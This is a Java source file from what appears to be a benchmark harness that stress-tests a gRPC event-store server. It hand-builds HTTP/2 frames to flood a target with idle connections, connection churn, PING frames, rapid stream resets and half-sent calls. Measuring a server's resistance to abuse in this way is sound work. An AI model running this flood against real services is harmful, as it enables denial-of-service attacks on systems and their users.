package dev.aether.bench.neighbour;

import dev.aether.v1.EventStoreGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;

/**
 * Connections that send what no gRPC client sends, as fast as the server accepts it. A connection
 * that the server closes is opened again at once.
 */
final class Flood implements Runnable {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int END_HEADERS = 4;
  private static final int FRAME_HEADER = 9;
  private static final int CANCEL = 8;

  /** Frames that are sent together. */
  private static final int BURST = 100;

  /** Otherwise it would take the processor, too, from what it attacks on the same machine. */
  private static final long PAUSE_NANOS = 1_000_000;

  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

  private static final byte[] CALL = call();

  private final InetSocketAddress server;
  private final Kind kind;
  private final AtomicInteger closed;
  private final AtomicLong sent;
  private final ByteBuffer received = ByteBuffer.allocateDirect(1 << 16);
  private final List<SocketChannel> open = new ArrayList<>();
  private final int connections;
  private int nextStream = 1;

  /** What they send. */
  enum Kind {
    /** Nothing, after HTTP/2 has begun. */
    connections,
    /** Nothing at all, on connections that are closed at once. */
    connects,
    pings,
    /** Calls that are reset at once. */
    resets,
    /** Calls whose requests never follow. */
    calls
  }

  /**
   * @param connections how many it keeps open
   * @param closed counts the connections that the server has closed
   * @param sent counts frames, or connections where nothing is sent
   */
  Flood(String address, Kind kind, int connections, AtomicInteger closed, AtomicLong sent) {
    int colon = address.lastIndexOf(':');
    server =
        new InetSocketAddress(
            address.substring(0, colon), Integer.parseInt(address.substring(colon + 1)));
    this.kind = kind;
    this.connections = connections;
    this.closed = closed;
    this.sent = sent;
  }

  static boolean isKind(String name) {
    for (Kind kind : Kind.values()) {
      if (kind.name().equals(name)) {
        return true;
      }
    }
    return false;
  }

  /** Never returns. */
  @Override
  public void run() {
    while (true) {
      try {
        step();
      } catch (IOException e) {
        closed.incrementAndGet();
      }
    }
  }

  private void step() throws IOException {
    if (open.size() < connections) {
      open.add(connect());
    }
    for (int i = open.size() - 1; i >= 0; i--) {
      SocketChannel connection = open.get(i);
      try {
        use(connection);
      } catch (IOException e) {
        open.remove(i);
        connection.close();
        closed.incrementAndGet();
      }
    }
    if (kind == Kind.connections) {
      LockSupport.parkNanos(PAUSE_NANOS);
    }
  }

  private void use(SocketChannel connection) throws IOException {
    if (kind == Kind.connects) {
      throw new IOException("closed by the attacker");
    }
    if (kind != Kind.connections) {
      ByteBuffer frames = burst();
      while (frames.hasRemaining()) {
        drain(connection);
        if (connection.write(frames) == 0) {
          LockSupport.parkNanos(PAUSE_NANOS);
        }
      }
      sent.addAndGet(BURST);
    }
    drain(connection);
  }

  private void drain(SocketChannel connection) throws IOException {
    received.clear();
    if (connection.read(received) < 0) {
      throw new IOException("closed by the server");
    }
  }

  private SocketChannel connect() throws IOException {
    SocketChannel connection = SocketChannel.open(server);
    if (kind == Kind.connects || kind == Kind.connections) {
      sent.incrementAndGet();
    }
    if (kind != Kind.connects) {
      ByteBuffer begin = ByteBuffer.allocate(PREFACE.length + FRAME_HEADER);
      begin.put(PREFACE);
      frame(begin, SETTINGS, 0, 0, new byte[0]);
      connection.write(begin.flip());
    }
    connection.configureBlocking(false);
    return connection;
  }

  private ByteBuffer burst() {
    ByteBuffer frames =
        ByteBuffer.allocate(BURST * (2 * FRAME_HEADER + CALL.length + Integer.BYTES));
    for (int i = 0; i < BURST; i++) {
      if (kind == Kind.pings) {
        frame(frames, PING, 0, 0, new byte[8]);
      } else {
        frame(frames, HEADERS, END_HEADERS, nextStream, CALL);
        if (kind == Kind.resets) {
          byte[] cancel = ByteBuffer.allocate(Integer.BYTES).putInt(CANCEL).array();
          frame(frames, RST_STREAM, 0, nextStream, cancel);
        }
        nextStream += 2;
      }
    }
    return frames.flip();
  }

  private static void frame(ByteBuffer to, int type, int flags, int stream, byte[] payload) {
    to.put((byte) (payload.length >> 16))
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload);
  }

  private static byte[] call() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    header(block, ":method", "POST");
    header(block, ":scheme", "http");
    header(block, ":path", "/" + EventStoreGrpc.getSaveEventsMethod().getFullMethodName());
    header(block, ":authority", "localhost");
    header(block, "content-type", "application/grpc");
    header(block, "te", "trailers");
    return block.toByteArray();
  }

  /** A literal header that is not indexed (RFC 7541, 6.2.2). */
  private static void header(ByteArrayOutputStream block, String name, String value) {
    block.write(0);
    for (String text : List.of(name, value)) {
      block.write(text.length());
      block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
    }
  }
}
